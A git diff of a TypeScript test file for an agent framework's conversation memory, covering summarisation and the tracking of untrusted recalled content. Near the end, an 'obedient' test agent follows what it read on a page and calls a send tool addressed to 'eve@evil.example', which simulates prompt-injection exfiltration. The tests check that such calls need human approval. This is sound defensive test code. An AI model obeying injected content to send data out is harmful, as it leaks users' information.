@@ -1,17 +1,18 @@
 import { z } from 'zod'
 import { expect, it } from 'vitest'
-import { memoryRoles } from '../../src/agents/roles/memory-roles.ts'
-import type { Agent } from '../../src/core/actor.ts'
-import type { Answered, AskOptions, ModelPort } from '../../src/core/model.ts'
-import type { Prompt } from '../../src/core/prompt.ts'
-import { outsideData } from '../../src/core/provenance.ts'
-import type { RequestInput } from '../../src/core/request.ts'
-import type { RunStore } from '../../src/core/store.ts'
-import { defineTool } from '../../src/core/tool.ts'
-import { recall } from '../../src/memory/recall.ts'
-import { pipeline } from '../../src/strategies/pipeline/pipeline.ts'
+import { memoryRoles } from '../../src/memory/roles.ts'
+import type { Agent } from '../../src/domain/actor.ts'
+import type { Answered, AskOptions, ModelPort } from '../../src/domain/model.ts'
+import type { Prompt } from '../../src/domain/prompt.ts'
+import { outsideData } from '../../src/domain/provenance.ts'
+import type { RequestInput } from '../../src/domain/request.ts'
+import type { RunStore } from '../../src/domain/store.ts'
+import { defineTool } from '../../src/domain/tool.ts'
+import { extractByPatterns } from '../../src/offline/conversation/remember.ts'
+import { recallConversation } from '../../src/memory/recall.ts'
+import { pipeline } from '../../src/strategies/pipeline/next.ts'
 import type { Storage } from '../../src/storage/index.ts'
-import { remembering } from '../../src/strategies/remembering.ts'
+import { withMemory } from '../../src/strategies/remembering.ts'
 import {
   agent,
   engineFor,
@@ -34,7 +35,7 @@ interface Asked {
   readonly preamble: string | undefined
 }
 
-/** Answers prompts by name; whatever has no script goes by its own rules. */
+/** Answers prompts by name; whatever has no script has no answer. */
 class ScriptedModels implements ModelPort {
   readonly asked: Asked[] = []
   script: Readonly<Record<string, (input: never) => unknown>> = {}
@@ -42,9 +43,7 @@ class ScriptedModels implements ModelPort {
   async ask<I, O>(prompt: Prompt<I, O>, input: I, options: AskOptions): Promise<Answered<O>> {
     this.asked.push({ prompt: prompt.name, input, preamble: options.preamble })
     const answer = this.script[prompt.name]
-    if (answer === undefined) {
-      return { value: await prompt.fallback(input), by: 'fallback', reason: 'no model', requests: 0 }
-    }
+    if (answer === undefined) return { by: 'fallback', reason: 'no model', requests: 0 }
     return { value: (await answer(input as never)) as O, by: 'model', model: 'fake:one', requests: 1 }
   }
 
@@ -62,13 +61,16 @@ class ScriptedModels implements ModelPort {
   }
 }
 
-const speaker = agent('speaker', async (task, ctx) => ({ answer: (await ctx.ask(say, task.text)).value }))
+const speaker = agent('speaker', async (task, ctx) => ({ answer: (await ctx.ask(say, task.text)).value ?? 'no model' }))
 
 interface WorldOptions {
   readonly store?: RunStore
   readonly agents?: readonly Agent[]
   readonly allowed?: readonly string[]
 }
+
+// In this thread: a test's clock does not wait for another one.
+const extract = async (message: string) => extractByPatterns(message)
 
 /** An engine with memory as the app puts it together, and one user's way in. */
 function worldOf(storage: Storage, { store = storage.store, agents = [speaker], allowed = [] }: WorldOptions = {}) {
@@ -78,11 +80,11 @@ function worldOf(storage: Storage, { store = storage.store, agents = [speaker], 
     store,
     clock,
     models,
-    strategies: [remembering(pipeline)],
+    strategies: [withMemory(pipeline)],
     roles: [
       givenPlanner,
       tellingComposer,
-      ...memoryRoles({ ...storage, shelf: { store: storage.skills, now: () => clock.now() } }),
+      ...memoryRoles({ ...storage, shelf: { store: storage.skills, now: () => clock.now() }, offline: extract }),
     ],
     approvals: { allowsWithoutApproval: (tool) => allowed.includes(tool) },
   })
@@ -90,8 +92,8 @@ function worldOf(storage: Storage, { store = storage.store, agents = [speaker], 
   const start = async (owner: string, question: string, more: Partial<RequestInput> = {}) => {
     const newId = (): string => `${owner}-${++conversations}`
     const asked = request([agents[0]!.name], { question, ...more })
-    const recalled = await recall(
-      { ...storage, newId, now: () => clock.now(), responseOf: async () => undefined },
+    const recalled = await recallConversation(
+      { ...storage, newId, now: () => clock.now(), answerOf: async () => undefined },
       owner,
       asked,
     )
@@ -172,7 +174,7 @@ describeStores('memory', (_store, _kind, storage) => {
     const { ask, engine } = worldOf(broken as unknown as Storage)
     const { state } = await ask('unlucky', 'My name is Ann.')
     expect(state.status).toBe('finished')
-    expect(state.answer?.text).toBe('speaker=succeeded:fallback for My name is Ann.')
+    expect(state.answer?.text).toBe('speaker=succeeded:no model')
     expect(state.jobs.get('remember:1')?.status).toBe('failed')
     await engine.close()
   })
@@ -193,6 +195,7 @@ describeStores('memory', (_store, _kind, storage) => {
 
   it('goes on with a conversation, and sums it up every three turns', async () => {
     const { models, ask, engine } = worldOf(storage())
+    models.script = { 'memory.summarise': () => 'Three turns.' }
     const { conversationId } = await ask('talker', 'Turn 1?')
     for (const n of [2, 3]) {
       const { state } = await ask('talker', `Turn ${n}?`, { conversationId })
@@ -201,26 +204,28 @@ describeStores('memory', (_store, _kind, storage) => {
     const fourth = await ask('talker', 'Turn 4?', { conversationId })
     expect(fourth.state.jobs.get('summarise:1')?.result?.answer).toBe('Summarised the conversation up to turn 3.')
     const summary = await storage().conversations.summary('talker', conversationId)
-    expect(summary?.turns).toBe(3)
-    expect(summary?.text).toContain('Asked: Turn 1? Answered: speaker=succeeded:fallback for Turn 1?')
+    expect(summary).toEqual({ text: 'Three turns.', turns: 3 })
     const fifth = await ask('talker', 'Turn 5?', { conversationId })
     expect(fifth.state.jobs.has('summarise:1')).toBe(false)
     const preamble = models.preambles('test.say').at(-1)
-    expect(preamble).toContain('Summary of turns 1 to 3: Asked: Turn 1?')
+    expect(preamble).toContain('Summary of turns 1 to 3: Three turns.')
     // The last two turns word for word, the question of this run not among them.
-    expect(preamble).toContain('User: Turn 3?\nAssistant: speaker=succeeded:fallback for Turn 3?\nUser: Turn 4?')
+    expect(preamble).toContain('User: Turn 3?\nAssistant: speaker=succeeded:no model\nUser: Turn 4?')
     expect(preamble).not.toContain('User: Turn 2?')
     expect(preamble).not.toContain('User: Turn 5?')
-    models.script = { 'memory.summarise': () => 'All of it in one line.' }
     await ask('talker', 'Turn 6?', { conversationId })
+    models.script = {}
     await ask('talker', 'Turn 7?', { conversationId })
+    expect((await storage().conversations.summary('talker', conversationId))?.turns, 'nothing is stored').toBe(3)
+    models.script = { 'memory.summarise': () => 'All of it in one line.' }
+    await ask('talker', 'Turn 8?', { conversationId })
     expect(await storage().conversations.summary('talker', conversationId)).toEqual({
       text: 'All of it in one line.',
-      turns: 6,
+      turns: 7,
     })
     expect((await storage().conversations.messages('talker', conversationId)).at(-2)).toMatchObject({
-      turn: 7,
-      text: 'Turn 7?',
+      turn: 8,
+      text: 'Turn 8?',
     })
     await engine.close()
   })
@@ -342,11 +347,11 @@ const send = defineTool({
 /** Obeys whatever it reads: the page first, in the next turn what it was told of the conversation. */
 const obedient = agent('obedient', async (task, ctx) => {
   if (task.text.includes('Read')) return { answer: await ctx.call(readPage, {}) }
-  const { preamble } = { preamble: (await ctx.ask(say, task.text)).value }
+  const { preamble } = { preamble: (await ctx.ask(say, task.text)).value ?? 'no model' }
   return { answer: await ctx.call(send, { to: preamble === '' ? 'nobody' : 'eve@evil.example' }) }
 })
 
-describeStores('trust in what is recalled (B6)', (_store, _kind, storage) => {
+describeStores('trust in what is recalled', (_store, _kind, storage) => {
   it('asks a person for a call in the next turn that an untrusted answer may have caused', async () => {
     const { ask, start, engine } = worldOf(storage(), { agents: [obedient], allowed: ['send'] })
     const fresh = await ask('target', 'Send it')
@@ -368,7 +373,8 @@ describeStores('trust in what is recalled (B6)', (_store, _kind, storage) => {
   })
 
   it('keeps the mark in the summary, and lets it go where nothing untrusted is left', async () => {
-    const { ask, engine } = worldOf(storage(), { agents: [obedient], allowed: ['send'] })
+    const { models, ask, engine } = worldOf(storage(), { agents: [obedient], allowed: ['send'] })
+    models.script = { 'memory.summarise': () => 'Pages were read.' }
     const { conversationId } = await ask('mark', 'Read the page')
     for (const n of [2, 3, 4]) {
       await ask('mark', `Read page ${n}`, { conversationId })
